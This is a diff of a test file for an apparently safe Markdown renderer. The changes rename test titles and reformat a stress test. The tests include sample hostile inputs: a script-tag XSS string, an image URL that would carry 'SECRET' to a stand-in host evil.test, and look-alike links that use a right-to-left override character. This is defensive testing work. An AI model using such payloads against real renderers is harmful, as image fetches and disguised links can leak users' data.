@@ -154,7 +154,7 @@ test('the corpus has more than two hundred texts, all different', () => {
   expect(texts.length).toBeGreaterThan(200);
 });
 
-test('the canary sings when something does ask it', async () => {
+test('the canary server notices a request', async () => {
   const image = new Image();
   image.src = armed('https://evil.test/a.png');
   await image.decode().catch(() => {});
@@ -173,23 +173,23 @@ test.each([
   expect(() => checkInvariants(page.body.firstElementChild ?? page.body)).toThrow();
 });
 
-test('raw HTML is shown as the text that it is', async () => {
+test('raw HTML is shown as text', async () => {
   const container = await whole('<script>alert(1)</script>\n\nand <b>bold</b>');
   expect(container.textContent).toBe('<script>alert(1)</script>and <b>bold</b>');
 });
 
-test('a picture is a placeholder that names its host', async () => {
+test('an image is a placeholder that names its host', async () => {
   const container = await whole('![A **map**](https://evil.test/map.png?q=SECRET)');
   expect(container.querySelector('.picture')?.textContent).toBe('Picture not fetched: A **map** (evil.test)');
 });
 
-test('a picture that is in the text itself is shown', async () => {
+test('an image with a data URL is shown', async () => {
   const data = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=';
   const container = await whole(`![dot](${data})`);
   expect(container.querySelector('img')?.getAttribute('src')).toBe(data);
 });
 
-test('the host of a link is shown beside words that do not say it', async () => {
+test('a link’s host is shown beside text that does not contain it', async () => {
   const shown = async (text: string): Promise<string | null> => (await whole(text)).textContent;
   expect(await shown('[https://good.test/](https://evil.test/)')).toBe('https://good.test/ (evil.test)');
   expect(await shown('[good.test\u202E](https://good.test.evil.test/)')).toBe('good.test (good.test.evil.test)');
@@ -219,24 +219,27 @@ const HUGE: Readonly<Record<string, string>> = {
   'a list that sinks in': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(2 * depth)}- a`).join('\n'),
 };
 
-test.each(Object.entries(HUGE))('attack 16, %s, is drawn in small pieces and no letter is lost', async (_, text) => {
-  for (const block of new BlockSplitter().push(text.slice(0, 1_000_000), true)) {
-    if (block.kind === 'text') expect(block.source.length).toBeLessThan(2 * 5_120);
-  }
-  const { container, writer } = begin();
-  for (let end = 0; end < text.length; end += Math.ceil(text.length / 8)) {
-    writer.update(text.slice(0, end), false);
-    await new Promise(requestAnimationFrame);
-  }
-  writer.update(text, true);
-  await drawn(writer);
-  checkInvariants(container);
-  const count = (value: string): number => {
-    let letters = 0;
-    for (let at = 0; at < value.length; at++)
-      if (value.charCodeAt(at) >= 97 && value.charCodeAt(at) <= 122) letters += 1;
-    return letters;
-  };
-  expect(count(container.textContent)).toBeGreaterThanOrEqual(count(text));
-  container.remove();
-});
+test.each(Object.entries(HUGE))(
+  'attack 16, %s, is rendered in small pieces, and no character is lost',
+  async (_, text) => {
+    for (const block of new BlockSplitter().push(text.slice(0, 1_000_000), true)) {
+      if (block.kind === 'text') expect(block.source.length).toBeLessThan(2 * 5_120);
+    }
+    const { container, writer } = begin();
+    for (let end = 0; end < text.length; end += Math.ceil(text.length / 8)) {
+      writer.update(text.slice(0, end), false);
+      await new Promise(requestAnimationFrame);
+    }
+    writer.update(text, true);
+    await drawn(writer);
+    checkInvariants(container);
+    const count = (value: string): number => {
+      let letters = 0;
+      for (let at = 0; at < value.length; at++)
+        if (value.charCodeAt(at) >= 97 && value.charCodeAt(at) <= 122) letters += 1;
+      return letters;
+    };
+    expect(count(container.textContent)).toBeGreaterThanOrEqual(count(text));
+    container.remove();
+  },
+);
